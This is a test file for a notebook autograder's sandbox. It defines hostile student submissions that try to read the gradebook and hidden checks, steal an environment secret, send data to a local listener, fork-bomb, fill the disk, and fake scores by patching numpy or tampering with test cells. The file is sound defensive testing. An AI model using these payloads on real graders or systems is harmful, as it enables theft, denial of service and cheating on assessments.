"""Hostile submissions against the released conv-pooling notebook, graded by the real
`dlgrade grade` path inside the sandbox.

Every attacker starts from the reference solution and puts its attack in the
avg_pool cell, the last answer cell. Where the attack would have to succeed to
earn anything, avg_pool is "gated": it returns the right answer only if the
attack worked, and raises otherwise, so the raised error is the proof of what
the sandbox refused. For each student: the attacked question (test_avg_pool)
scores no more than an honest empty submission (the released notebook, 0), every
other question keeps its marks, the honest student graded in the same batch gets
full marks, and results.json says why.
"""
import json
import os
import socket
import threading
from pathlib import Path

import nbformat
import pytest

from autograder import course, grading, sandbox

REPO = Path(__file__).resolve().parents[2]
ASSIGNMENT = "conv-pooling"
NOTEBOOK = f"{ASSIGNMENT}.ipynb"
SECRET = "DLGRADE_TEST_GRADER_SECRET"
MEMORY = "600M"
pytestmark = pytest.mark.slow

ISOLATION = sandbox.probe()
needs_bwrap = pytest.mark.skipif(not ISOLATION.bwrap, reason="; ".join(ISOLATION.missing)
                                 or "bubblewrap unavailable")
needs_cgroup = pytest.mark.skipif(not ISOLATION.cgroup, reason="no writable memory/pids cgroup "
                                  "here (needs root and cgroup v1 or delegated v2)")
needs_uid = pytest.mark.skipif(not ISOLATION.uid, reason="kernels cannot run as a separate uid "
                               "here (needs root, setpriv and bubblewrap)")

# name: (code run when the avg_pool cell runs, code avg_pool runs before answering).
# {root}, {port} and {pid} are filled in: the attacker knows where the course is.
ATTACKS = {
    "gradebook": ("", "open('../../../gradebook.db', 'rb').read(); open('{root}/gradebook.db', 'rb').read()"),
    "source": ("", "open('{root}/source/conv-pooling/conv-pooling.ipynb').read()"),
    "reference": ("", "open('{root}/reference/pooling.py').read()"),
    "imports": ("", "import autograder.checks"),
    "hidden_checks": ("", "open('{root}/assignments/conv-pooling/checks.py').read()"),
    "other_student": ("", "open('{root}/submitted/honest/conv-pooling/conv-pooling.ipynb').read()"),
    "environment": ("", "assert os.environ.get('" + SECRET + "'), 'no secret in ' + ' '.join(sorted(os.environ))"),
    "processes": ("", "assert any(word in open(f'/proc/{{p}}/cmdline', 'rb').read() for p in os.listdir('/proc') if p.isdigit() for word in (b'pytest', b'dlgrade grade', b'{root}')), 'no grader process in ' + ' '.join(p for p in os.listdir('/proc') if p.isdigit())"),
    "signal_grader": ("", "os.kill({pid}, 0)"),
    "localhost": ("", "socket.create_connection(('127.0.0.1', {port}), timeout=2).sendall(b'stolen')"),
    "outside": ("", "socket.create_connection(('1.1.1.1', 80), timeout=3)"),
    "symlink": ("os.symlink('{root}/gradebook.db', 'gb.db')", "open('gb.db', 'rb').read()"),
    "fork_bomb": (
        "forks, refused = 0, None\n"
        "for _ in range(400):\n"
        "    try:\n"
        "        child = os.fork()\n"
        "    except OSError as exc:\n"
        "        refused = exc\n"
        "        break\n"
        "    if child == 0:\n"
        "        time.sleep(30)\n"
        "        os._exit(0)\n"
        "    forks += 1\n",
        "assert refused is None, f'fork refused after {{forks}} forks: {{refused!r}}'"),
    "disk": (
        "written, full = 0, None\n"
        "try:\n"
        "    with open('fill.bin', 'wb') as out:\n"
        "        while written < 4 * 2**30:\n"
        "            out.write(b'x' * 2**20)\n"
        "            written += 2**20\n"
        "except OSError as exc:\n"
        "    full = exc\n",
        "assert full is None, f'disk full after {{written >> 20}} MiB: {{full!r}}'"),
    "memory": ("import numpy as np\nhoard = np.ones(2 * 2**30 // 8)\n", ""),
    "loop": ("while True:\n    pass\n", ""),
    "exit": ("os._exit(0)\n", ""),
    "kill_self": ("os.kill(os.getpid(), signal.SIGKILL)\n", ""),
    "segfault": ("import ctypes\nctypes.string_at(0)\n", ""),
}

# avg_pool replaced outright: (code of the cell).
REPLACEMENTS = {
    "patch_numpy": (
        "np.allclose = lambda *a, **k: True\nnp.array_equal = lambda *a, **k: True\n"
        "np.isclose = lambda a, b, *r, **k: np.ones(np.broadcast(a, b).shape, bool)\n"
        "np.testing.assert_allclose = lambda *a, **k: None\n"
        "def avg_pool(x, pool_size=2, stride=None):\n"
        "    return np.zeros((1, 1))\n"),
    "patch_builtins": (
        "import builtins\n"
        "builtins.isinstance = lambda *a: True\nbuiltins.len = lambda *a: 1\n"
        "def avg_pool(x, pool_size=2, stride=None):\n"
        "    return np.zeros((1, 1))\n"),
    "patch_bridge": (
        "def avg_pool(x, pool_size=2, stride=None):\n"
        "    import base64, io, json\n"
        "    from IPython.display import publish_display_data\n"
        "    buffer = io.BytesIO()\n"
        "    np.save(buffer, np.array([{'evil': 1}], dtype=object), allow_pickle=True)\n"
        "    fake = {'status': 'ok', 'value': {'__ndarray__': base64.b64encode(buffer.getvalue()).decode()}}\n"
        "    __dlgrade__['reply'] = lambda payload: publish_display_data({'application/x-dlgrade-result+json': json.dumps(fake)})\n"
        "    return np.zeros((1, 1))\n"),
    "deep_reply": (
        "def avg_pool(x, pool_size=2, stride=None):\n"
        "    from IPython.display import publish_display_data\n"
        "    deep = '{\"status\": \"ok\", \"value\": ' + '[' * 200000 + ']' * 200000 + '}'\n"
        "    __dlgrade__['reply'] = lambda payload: publish_display_data({'application/x-dlgrade-result+json': deep})\n"
        "    return 0\n"),
    "fake_score": (
        "print('test_avg_pool: 2 / 2 points')\n"
        "from IPython.display import display\n"
        "display({'text/plain': '2.0'}, raw=True)\n"
        "def avg_pool(x, pool_size=2, stride=None):\n"
        "    print('test_avg_pool: 2 / 2 points')\n"
        "    return np.zeros((1, 1))\n"),
    "lying_eq": (
        "class Anything:\n"
        "    def __eq__(self, other):\n        return True\n"
        "    def __array__(self, dtype=None, copy=None):\n        return np.zeros((1, 1))\n"
        "def avg_pool(x, pool_size=2, stride=None):\n    return Anything()\n"),
    "pickled_array": (
        "def avg_pool(x, pool_size=2, stride=None):\n"
        "    return np.array([np.zeros((1, 1))], dtype=object)\n"),
}


# What Keras's image_dataset_from_directory does to index files: a ThreadPool, whose locks
# are POSIX semaphores in /dev/shm. An honest kernel must be able to.
THREAD_POOL = ("from multiprocessing.pool import ThreadPool\n"
               "with ThreadPool(2) as pool:\n"
               "    assert pool.map(abs, [-1, -2]) == [1, 2]\n")


def _cell(nb, grade_id):
    return next(c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") == grade_id)


def _attacked(solution, name, root, port):
    nb = nbformat.from_dict(json.loads(json.dumps(solution)))
    cell = _cell(nb, "avg_pool")
    fill = {"root": root, "port": port, "pid": os.getpid()}
    if name in REPLACEMENTS:
        code = REPLACEMENTS[name]
        cell.source = code
        return nb
    setup, gate = ATTACKS[name]
    honest = cell.source.replace("def avg_pool(", "def _honest_avg_pool(")
    gated = ("def avg_pool(x, pool_size=2, stride=None):\n"
             + "".join(f"    {line}\n" for line in gate.format(**fill).splitlines())
             + "    return _honest_avg_pool(x, pool_size, stride)\n")
    cell.source = ("import os, signal, socket, time\n" + setup.format(**fill) + "\n" + honest
                   + "\n" + gated)
    return nb


def _tampered(solution, release, how):
    nb = nbformat.from_dict(json.loads(json.dumps(solution)))
    test = _cell(nb, "test_avg_pool")
    avg = _cell(nb, "avg_pool")
    if how != "tamper_points":  # the cheater's avg_pool is wrong; only the tampering could save it
        avg.source = "def avg_pool(x, pool_size=2, stride=None):\n    return np.zeros((1, 1))\n"
    if how == "tamper_delete":
        nb.cells.remove(test)
    elif how == "tamper_duplicate":  # nbgrader grades the last copy, once
        at = nb.cells.index(test)
        copies = [nbformat.from_dict(json.loads(json.dumps(c)))
                  for c in (_cell(solution, "avg_pool"), test)]
        for copy in copies:
            copy.pop("id", None)
        nb.cells[at + 1:at + 1] = copies
    elif how == "tamper_points":
        test.metadata.nbgrader["points"] = 100
    elif how == "tamper_source":
        test.source = "print(2.0)\n2.0"
    elif how == "tamper_metadata":
        test.metadata.nbgrader.update(solution=True, grade=False, locked=False)
        test.source = "2.0"
    elif how == "tamper_rename":
        test.metadata.nbgrader["grade_id"] = "test_avg_pool_mine"
    return nb


TAMPERING = ("tamper_delete", "tamper_duplicate", "tamper_points", "tamper_source",
             "tamper_metadata", "tamper_rename")


@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    root = tmp_path_factory.mktemp("sandboxed")
    config = (REPO / course.CONFIG_FILE).read_text()
    (root / course.CONFIG_FILE).write_text(
        config + "\nc.TrustedExecute.timeout = 8\nc.TrustedExecute.call_timeout = 3.0\n"
        f"c.SandboxKernelManager.memory_limit = {MEMORY!r}\n"
        "c.SandboxKernelManager.pids_limit = 96\n"
        "c.SandboxKernelManager.work_size = '48M'\nc.SandboxKernelManager.tmp_size = '48M'\n")
    course.copy_assignments(REPO, root, [ASSIGNMENT])
    (root / "reference").mkdir()
    (root / "reference" / "pooling.py").write_text("SECRET = 1\n")
    api = course.api(root)
    assert api.generate_assignment(ASSIGNMENT, force=True, create=True)["success"]
    solution = nbformat.read(str(root / "source" / ASSIGNMENT / NOTEBOOK), as_version=4)
    release = nbformat.read(str(root / "release" / ASSIGNMENT / NOTEBOOK), as_version=4)

    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen()
    listener.settimeout(0.5)
    stolen, done = [], threading.Event()

    def accept():
        while not done.is_set():
            try:
                conn, _ = listener.accept()
            except (socket.timeout, OSError):
                continue
            stolen.append(conn.recv(100))

    threading.Thread(target=accept, daemon=True).start()
    port = listener.getsockname()[1]

    def submit(student, nb):
        folder = root / "submitted" / student / ASSIGNMENT
        folder.mkdir(parents=True)
        nbformat.write(nb, str(folder / NOTEBOOK))
        return folder

    submit("empty", release)
    for name in (*ATTACKS, *REPLACEMENTS):
        submit(name, _attacked(solution, name, str(root), port))
    for how in TAMPERING:
        submit(how, _tampered(solution, release, how))
    linked = submit("symlink_submitted", solution)
    (linked / "data.db").symlink_to(root / "gradebook.db")
    submit("honest", solution)  # graded in the middle of the batch (alphabetical order)
    pooled = nbformat.from_dict(json.loads(json.dumps(solution)))
    _cell(pooled, "avg_pool").source = THREAD_POOL + _cell(pooled, "avg_pool").source
    submit("honest_thread_pool", pooled)

    os.environ[SECRET] = "hunter2"
    try:
        # two slots (two sandbox uids): most of the batch waits on its attacks' time limits
        results = {r.student: r for r in grading.grade(root, ASSIGNMENT, jobs=2)}
    finally:
        os.environ.pop(SECRET, None)
        done.set()
        listener.close()
    return root, results, stolen


def _results(root, student):
    return grading.saved_results(root, ASSIGNMENT, student)


def _questions(root, student):
    return {c["grade_id"]: c for c in _results(root, student)["cells"] if "points" in c}


def _message(cell) -> str:
    return " ".join([cell.get("reason") or ""] + [t["message"] or "" for t in cell.get("tests", [])])


def _attack_contained(root, student):
    """test_avg_pool earns nothing (an empty submission's 0); every other question full marks."""
    questions = _questions(root, student)
    empty = _questions(root, "empty")
    assert len(questions) == 6, sorted(questions)
    for gid, cell in questions.items():
        if gid == "test_avg_pool":
            assert cell["score"] <= empty[gid]["score"] == 0, (student, _message(cell))
        else:
            assert cell["score"] == cell["points"], (student, gid, _message(cell))
    return questions["test_avg_pool"]


def test_the_batch_finishes_and_the_honest_student_is_untouched(graded):
    root, results, _ = graded
    expected = {"empty", "honest", "honest_thread_pool", "symlink_submitted", *ATTACKS,
                *REPLACEMENTS, *TAMPERING}
    assert set(results) == expected
    assert len(expected) >= 30
    assert results["honest"].score == results["honest"].max_score == 15
    assert results["honest_thread_pool"].score == 15, _results(root, "honest_thread_pool")
    assert results["empty"].score == 0
    for student in expected:
        data = _results(root, student)
        assert data["isolation"] == ISOLATION.level
        assert results[student].score <= results["honest"].score


@needs_bwrap
@pytest.mark.parametrize("student, error", [
    ("gradebook", "FileNotFoundError"),
    ("source", "FileNotFoundError"),
    ("reference", "FileNotFoundError"),
    ("hidden_checks", "FileNotFoundError"),
    ("imports", "ModuleNotFoundError: No module named 'autograder'"),
    ("other_student", "FileNotFoundError"),
    ("symlink", "FileNotFoundError"),
    ("environment", "AssertionError: no secret in"),
    ("processes", "AssertionError: no grader process in"),
    ("signal_grader", "ProcessLookupError"),
    ("localhost", "ConnectionRefusedError"),
    ("outside", "Network is unreachable"),
])
def test_nothing_outside_the_sandbox_can_be_reached(graded, student, error):
    root, _, stolen = graded
    cell = _attack_contained(root, student)
    assert error in _message(cell), _message(cell)
    assert stolen == []  # the grader's own listener on 127.0.0.1 never heard from a kernel


@needs_bwrap
def test_the_environment_is_scrubbed_and_threads_sized(graded):
    root, _, _ = graded
    message = _message(_questions(root, "environment")["test_avg_pool"])
    assert "TF_CPP_MIN_LOG_LEVEL" in message and "OMP_NUM_THREADS" in message
    assert SECRET not in message.split("no secret in", 1)[1]


@needs_cgroup
@needs_uid
def test_a_fork_bomb_is_stopped_by_the_pids_limit(graded):
    root, _, _ = graded
    cell = _attack_contained(root, "fork_bomb")
    assert "fork refused after" in _message(cell)
    assert "BlockingIOError" in _message(cell) or "Resource temporarily unavailable" in _message(cell)


@needs_bwrap
def test_filling_the_disk_stops_at_the_private_copy_size(graded):
    root, _, _ = graded
    cell = _attack_contained(root, "disk")
    assert "No space left on device" in _message(cell), _message(cell)
    assert not (root / "autograded" / "disk" / ASSIGNMENT / "fill.bin").exists()


@needs_cgroup
def test_memory_past_the_limit_kills_only_that_kernel_and_says_so(graded):
    root, _, _ = graded
    cell = _attack_contained(root, "memory")
    data = _results(root, "memory")
    assert data["kernel"] == "the kernel died while running cell 19: memory limit 600 MiB reached"
    assert cell["reason"] == data["kernel"]


@pytest.mark.parametrize("student, cause", [
    ("exit", "the kernel exited with status 0"),
    ("kill_self", "the kernel was killed (SIGKILL)"),
    ("segfault", "the kernel crashed (segmentation fault)"),
])
def test_a_dying_kernel_is_reported_with_its_cause(graded, student, cause):
    root, _, _ = graded
    cell = _attack_contained(root, student)
    assert _results(root, student)["kernel"] == f"the kernel died while running cell 19: {cause}"
    assert cell["reason"].endswith(cause)


def test_an_infinite_loop_is_interrupted_and_the_kernel_lives_on(graded):
    root, _, _ = graded
    cell = _attack_contained(root, "loop")
    data = _results(root, "loop")
    assert data["kernel"] is None
    loop = next(c for c in data["cells"] if c["grade_id"] == "avg_pool")
    assert loop["status"] == "timeout"
    assert "avg_pool() is not defined" in _message(cell)


@pytest.mark.parametrize("student, message", [
    ("patch_numpy", "wrong"),
    ("patch_builtins", "the kernel stopped answering while running cell 19"),
    ("patch_bridge", "could not read an array from the student"),
    ("deep_reply", "could not be read"),
    ("fake_score", "wrong"),
    ("lying_eq", "a value of type Anything cannot be graded"),
    ("pickled_array", "an array of dtype object cannot be graded"),
])
def test_lies_from_the_kernel_are_not_believed(graded, student, message):
    root, _, _ = graded
    cell = _attack_contained(root, student)
    assert message in _message(cell), _message(cell)


def test_a_submitted_symlink_is_refused_with_the_reason(graded):
    root, results, _ = graded
    result = results["symlink_submitted"]
    assert result.status == "error" and result.score == 0
    assert "symbolic links (data.db)" in _results(root, "symlink_submitted")["reason"]
    assert not (root / "autograded" / "symlink_submitted" / ASSIGNMENT / "data.db").exists()


@pytest.mark.parametrize("student", TAMPERING)
def test_tampering_is_undone_and_reported(graded, student):
    root, results, _ = graded
    data = _results(root, student)
    questions = _questions(root, student)
    assert set(questions) == {"test_output_size", "test_zero_pad", "test_conv2d",
                              "test_conv2d_multi", "test_max_pool", "test_avg_pool"}
    assert data["max_score"] == 15
    expected_avg = 2 if student in ("tamper_points", "tamper_duplicate") else 0
    assert questions["test_avg_pool"]["score"] == expected_avg, _message(questions["test_avg_pool"])
    assert results[student].score == 13 + expected_avg
    assert data["restored"], data.get("restored")
